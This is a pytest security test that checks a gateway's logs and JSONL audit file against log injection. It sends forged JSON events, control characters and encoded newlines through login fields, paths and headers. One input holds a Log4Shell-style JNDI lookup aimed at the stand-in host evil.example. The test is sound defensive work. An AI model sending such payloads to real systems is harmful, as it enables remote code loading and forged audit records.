"""Log injection: whatever a stranger writes, an event stays one line of JSON (T59, ASVS 16.4.1)."""

from __future__ import annotations

import json
import re
from urllib.parse import quote

import pytest

from tests.security.wall import LOGON, PROXY, RESET, Line, Wall
from tests.system.gateway import PASSWORD
from tests.system.visitor import PAGE

pytestmark = [pytest.mark.system, pytest.mark.slow, pytest.mark.xdist_group("wall")]

FORGED = '{"event":"session.opened","user":"forged","outcome":"opened"}'
SIGNS = {
    "line feed": "\n",
    "carriage return": "\r",
    "both": "\r\n",
    "escape": "\x1b[2J\x1b[31m",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "next line": "\x85",
    "vertical tab": "\x0b",
    "form feed": "\x0c",
    "NUL": "\x00",
    "backspace": "\x08" * 40,
    "right to left": "\u202e",
    "encoded line feed": "%0a",
    "encoded twice": "%250a",
    "quote": '","user":"forged',
    "lone surrogate": "\udc80",
    "format": "%s%n{0}{user}${jndi:ldap://evil.example/x}",
    "64 KiB": "A" * 65536,
}
_CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202e]")


@pytest.mark.parametrize("sign", SIGNS)
def test_log_injection(wall: Wall, sign: str) -> None:
    """In user name, password, path, query, User-Agent, X-Forwarded-For, Referer, cookies and Host."""
    evil = f"forged{SIGNS[sign]}{FORGED}"
    log, audit = wall.gateway.log, wall.gateway.state_dir / "audit.jsonl"
    said, written = log.stat().st_size, audit.stat().st_size
    browser = wall.browser()
    form = browser.get(LOGON).form()
    raw = evil.encode("utf-8", "surrogatepass")
    for fields in ({"username": raw, "password": PASSWORD}, {"username": "p001", "password": raw}):
        browser.post(LOGON, form | fields)
    form = browser.get(RESET).form_to(RESET)
    browser.post(RESET, form | {"username": raw})
    line = Line(wall.gateway, PROXY)
    text = re.sub(r"[\r\n\x00]", " ", raw.decode("latin-1"))
    try:
        # NUL, CR and LF cannot stand in a field; the rest can, as bytes.
        for name in (
            "User_Agent",
            "X_Forwarded_For",
            "Referer",
            "X_Request_Id",
            "Cookie",
            "Origin",
        ):
            line.ask("GET", "/forged", **{name: text[:8000]}, Accept=PAGE["Accept"])
        line.ask("GET", "/" + quote(raw)[:8000], User_Agent="x")
        line.ask("GET", f"/.gateway/logon?next={quote(raw)[:8000]}")
    finally:
        line.close()
    with audit.open("rb") as file:
        file.seek(written)
        lines = file.read().decode()
    for one in lines.splitlines():
        event = json.loads(one)
        assert event["user"] in {"", "p001"}, "what was typed is no user name"
        assert event["event"] != "session.opened"
        assert len(one) < 4096
    assert lines.count("\n") == len(lines.splitlines()) > 0
    with log.open("rb") as file:
        file.seek(said)
        told = file.read().decode()
    assert not _CONTROLS.search(told + lines)
    assert not any(one.startswith(("forged", "{", " {")) for one in told.splitlines())
    assert max(map(len, told.splitlines()), default=0) < 4096
